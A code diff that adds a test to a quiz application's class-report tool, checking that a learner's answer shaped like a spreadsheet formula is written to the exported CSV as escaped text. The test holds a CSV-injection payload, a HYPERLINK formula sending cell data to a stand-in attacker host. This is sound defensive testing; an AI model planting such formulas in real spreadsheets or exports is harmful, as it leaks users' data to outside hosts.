@@ -111,3 +111,29 @@ def test_a_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
     assert result.returncode == 2
     assert "no such folder" in result.stderr
     assert "Traceback" not in result.stderr
+
+
+def test_a_typed_answer_that_looks_like_a_formula_reaches_the_csv_as_text(tmp_path: Path) -> None:
+    # Two learners (or one with two tabs) make a formula the most common wrong answer; a
+    # spreadsheet opening questions.csv would run it. The cell starts with an apostrophe.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+    folder = tmp_path / "class"
+    folder.mkdir()
+    bank = load_bank(GOOD_BANK)
+    question = bank.get("mini-deepseek-city")
+    assert question is not None
+    for name in ("Eve", "Bob"):
+        with ProgressStore.open(learner_store_path(folder, name)) as store:
+            recorder = ProgressRecorder(store, clock=lambda: T0)
+            session = QuizSession(bank, [question], recorder=recorder, clock=lambda: T0)
+            recorder.question_shown()
+            session.submit(formula)
+    result = subprocess.run(
+        [sys.executable, "-m", "chinaai_learn", "class-report", "--progress-dir", str(folder),
+         "--bank", str(GOOD_BANK), "--csv", str(tmp_path / "csv")],
+        capture_output=True, text=True, cwd=ROOT, timeout=120,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    (row,) = csv.DictReader((tmp_path / "csv" / "questions.csv").open(encoding="utf-8"))
+    assert row["most_common_wrong_answer"] == "'" + formula
+    assert row["times"] == "2"
